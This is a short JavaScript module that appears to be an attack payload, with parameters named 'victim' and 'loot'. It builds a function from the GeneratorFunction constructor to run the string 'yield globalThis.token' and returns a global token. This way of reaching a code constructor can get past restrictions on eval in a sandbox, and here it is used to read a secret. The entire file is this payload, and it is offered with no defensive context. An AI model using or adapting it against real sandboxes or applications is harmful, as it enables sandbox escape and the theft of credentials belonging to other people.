module.exports = (victim, loot) => {
  const C = (function* () {}).constructor;
  return new C('yield globalThis.token')().next().value;
};
